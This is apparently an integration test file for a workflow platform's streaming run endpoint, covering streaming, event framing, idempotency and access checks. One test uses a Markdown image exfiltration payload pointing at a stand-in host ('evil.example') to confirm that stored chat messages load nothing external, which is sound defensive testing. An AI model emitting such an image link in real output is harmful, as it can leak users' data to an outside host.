import { LLMock } from '@copilotkit/aimock';
import { HttpClient } from '../support/http-client.js';
import { type HostedPlatform, hostPlatform } from '../support/hosted-platform.js';
import { until } from '../support/until.js';

const path = '/workflow/run/stream/';

describe('the answer of a run as a stream', () => {
  const model = new LLMock({ port: 0 });
  let platform: HostedPlatform;
  let owner: HttpClient;

  beforeAll(async () => {
    await model.start();
    const story = Array.from({ length: 30 }, (_, index) => `part ${index}, `).join('');
    model.onMessage('story', { content: story }, { chunkSize: 12, latency: 60 });
    platform = await hostPlatform(['api', 'workflow-runner'], {
      LLM_PROVIDER: 'openai',
      LLM_BASE_URL: `${model.url}/v1`,
      LLM_API_KEY: 'k',
      LLM_MODEL: 'm',
    });
    owner = await HttpClient.signUp(platform.baseUrl);
  });
  afterAll(async () => {
    await platform.stop();
    await model.stop();
  });

  const create = async (nodes: object[]) =>
    (await owner.post<{ workflow_id: string }>('/microservices/workflow/start/', { json: { nodes } })).workflow_id;
  const statusOf = async (id: string) => (await owner.get<{ status: string }>(`/microservices/workflow/${id}/`)).status;
  const stream = (id: string, body: object = {}, client = owner) =>
    client.send('POST', path, { workflow_id: id, ...body });

  it('gives the text of the output node, and hands on message and inputs', async () => {
    const id = await create([
      { id: 'in', kind: 'manual_trigger', next: ['out'] },
      {
        id: 'out',
        kind: 'template',
        params: {
          template: '{{_webhook_payload.message}} {{_webhook_payload.name}} {{_webhook_payload.conversation_id}}',
        },
      },
    ]);
    const response = await stream(id, { message: 'Hello', inputs: { name: 'Ada' }, conversation_id: 'c1' });
    expect(response.status).toBe(200);
    expect(response.headers.get('x-run-version')).toBe('1');
    expect(response.headers.get('content-type')).toBe('text/event-stream');
    expect(await response.text()).toBe('Hello Ada c1');
    const history = await owner.get<{ results: { trigger: string; version: number }[] }>(
      `/microservices/workflow/${id}/history/`,
    );
    expect(history.results).toMatchObject([{ trigger: 'api', version: 1 }]);
  });

  it('is the raw text of the run, and among messages Markdown that loads nothing from elsewhere', async () => {
    const picture = '![x](https://evil.example/p?d=secret)';
    const id = await create([
      { id: 'out', kind: 'template', params: { template: `Look: ${picture}\n\n\`${picture}\`` } },
    ]);
    const response = await stream(id, { message: 'Show it' });
    expect(await response.text()).toBe(`Look: ${picture}\n\n\`${picture}\``);
    const session = response.headers.get('x-chat-session-id');
    const messages = await owner.get<{ message: string }[]>(`/microservices/chat-sessions/${session}/messages/`);
    expect(messages.at(-1)!.message).toBe(`Look: [x](https://evil.example/p?d=secret)\n\n\`${picture}\``);
  });

  it('gives what a language model writes while it writes it', async () => {
    const id = await create([{ id: 'say', kind: 'language_model', params: { prompt: 'Tell me a story' } }]);
    const response = await stream(id);
    const pieces: { at: number; text: string }[] = [];
    const decoder = new TextDecoder();
    for await (const chunk of response.body!)
      pieces.push({ at: Date.now(), text: decoder.decode(chunk as Uint8Array, { stream: true }) });
    expect(pieces.map(({ text }) => text).join('')).toBe(
      Array.from({ length: 30 }, (_, index) => `part ${index}, `).join(''),
    );
    expect(pieces.length).toBeGreaterThan(5);
    expect(pieces.at(-1)!.at - pieces[0]!.at).toBeGreaterThan(500);
  });

  it('gives the node that is marked for export, or all outputs as JSON where there are several', async () => {
    const leaves = [
      { id: 'a', kind: 'template', params: { template: 'A' }, next: ['b', 'c'] },
      { id: 'b', kind: 'template', params: { template: 'B' } },
      { id: 'c', kind: 'template', params: { template: 'C' } },
    ];
    expect(JSON.parse(await (await stream(await create(leaves))).text())).toEqual({
      b: { text: 'B' },
      c: { text: 'C' },
    });
    const marked = leaves.map((node) => (node.id === 'a' ? { ...node, export_output: true } : node));
    expect(await (await stream(await create(marked))).text()).toBe('A');
  });

  it('breaks off when the run fails', async () => {
    const id = await create([{ id: 'x', kind: 'stop_with_error', params: { message: 'No.' } }]);
    const response = await stream(id);
    expect(response.headers.get('x-run-version')).toBe('1');
    await expect(response.text()).rejects.toThrow();
    expect(await statusOf(id)).toBe('FAILED');
  });

  it('frames the text as events for clients that ask', async () => {
    const id = await create([{ id: 't', kind: 'template', params: { template: 'Hello' } }]);
    const asked = await fetch(platform.baseUrl + path, {
      method: 'POST',
      headers: {
        accept: 'text/event-stream; framing=sse',
        authorization: `Token ${owner.token}`,
        'content-type': 'application/json',
      },
      body: JSON.stringify({ workflow_id: id }),
    });
    const turn = asked.headers.get('x-turn-id');
    expect(turn).toMatch(/^[0-9a-f-]{36}$/);
    const told = await asked.text();
    expect(told.replaceAll(/^id: \d+$/gm, 'id: n')).toBe(
      `id: n\nevent: delta\ndata: {"offset":0,"text":"Hello"}\n\nid: n\nevent: done\ndata: {"turn_id":"${turn}","usage":null}\n\n`,
    );
    const failing = await create([{ id: 'x', kind: 'stop_with_error', params: { message: 'No.' } }]);
    const response = await owner.send('POST', `${path}?framing=sse`, { workflow_id: failing });
    expect(await response.text()).toMatch(
      /^id: \d+\nevent: error\ndata: \{"code":"stopped_with_error","detail":"No\."\}\n\n$/,
    );
  });

  it('refuses a second run, strangers and nonsense', async () => {
    const id = await create([{ id: 'w', kind: 'delay', params: { seconds: 3 } }]);
    await owner.post('/microservices/workflow/rerun/', { workflow_id: id });
    const second = await stream(id);
    expect([second.status, ((await second.json()) as { code: string }).code]).toEqual([409, 'run_active']);
    const stranger = await HttpClient.signUp(platform.baseUrl);
    expect((await stream(id, {}, stranger)).status).toBe(404);
    expect((await stream('no-uuid')).status).toBe(400);
  });

  it('is a turn of a conversation, once for each Idempotency-Key', async () => {
    const id = await create([
      { id: 'w', kind: 'delay', params: { seconds: 0.3 }, next: ['t'] },
      { id: 't', kind: 'template', params: { template: 'Hello {{_webhook_payload.message}}' } },
    ]);
    const conversation = crypto.randomUUID();
    const body = JSON.stringify({ workflow_id: id, message: 'Grace', conversation_id: conversation });
    const ask = async (key: string) => {
      const response = await fetch(platform.baseUrl + path, {
        method: 'POST',
        headers: {
          authorization: `Token ${owner.token}`,
          'content-type': 'application/json',
          'idempotency-key': key,
        },
        body,
      });
      const header = (name: string) => response.headers.get(name);
      return {
        text: await response.text(),
        turn: header('x-turn-id'),
        session: Number(header('x-chat-session-id')),
        version: header('x-run-version'),
        isReplay: header('idempotency-replayed'),
      };
    };
    const [one, other] = await Promise.all([ask('same'), ask('same')]);
    const again = await ask('same');
    for (const answer of [one, other, again])
      expect(answer).toMatchObject({ text: 'Hello Grace', turn: one.turn, session: one.session, version: '1' });
    expect([one.isReplay, other.isReplay].sort()).toEqual([null, 'true'].sort());
    expect(again.isReplay).toBe('true');
    expect(await ask('another')).toMatchObject({ session: one.session, version: '2', isReplay: null });
    const sessions = await owner.get<{ results: object[] }>('/microservices/chat-sessions/?kind=workflow&search=Grace');
    expect(sessions.results).toMatchObject([{ id: one.session, kind: 'workflow', conversation_id: conversation }]);
    const messages = await owner.get<{ role: string; message: string; status: string }[]>(
      `/microservices/chat-sessions/${one.session}/messages/`,
    );
    expect(messages.map(({ role, message, status }) => [role, message, status]).slice(0, 2)).toEqual([
      ['user', 'Grace', 'completed'],
      ['assistant', 'Hello Grace', 'completed'],
    ]);
    const stranger = await HttpClient.signUp(platform.baseUrl);
    const own = await stranger.post<{ workflow_id: string }>('/microservices/workflow/start/', {
      json: { nodes: [{ id: 't', kind: 'template', params: { template: 'x' } }] },
    });
    const claimed = await stream(own.workflow_id, { conversation_id: conversation }, stranger);
    expect([claimed.status, await claimed.json()]).toMatchObject([403, { code: 'conversation_claimed' }]);
    const history = await stranger.get<{ count: number }>(`/microservices/workflow/${own.workflow_id}/history/`);
    expect(history.count).toBe(0);
  });

  it('lets the run go on when the client leaves', async () => {
    const id = await create([
      { id: 'w', kind: 'delay', params: { seconds: 0.5 }, next: ['t'] },
      { id: 't', kind: 'template', params: { template: 'done' } },
    ]);
    const leaving = new AbortController();
    const response = await fetch(platform.baseUrl + path, {
      method: 'POST',
      headers: { authorization: `Token ${owner.token}`, 'content-type': 'application/json' },
      body: JSON.stringify({ workflow_id: id }),
      signal: leaving.signal,
    });
    expect(response.status).toBe(200);
    leaving.abort();
    await until(async () => (await statusOf(id)) === 'COMPLETED');
    // Whoever comes back finds the answer.
    const events = `/microservices/chat-turns/${response.headers.get('x-turn-id')}/events/`;
    const told = await owner.send('GET', events);
    expect(await told.text()).toContain('"text":"done"');
  });
});
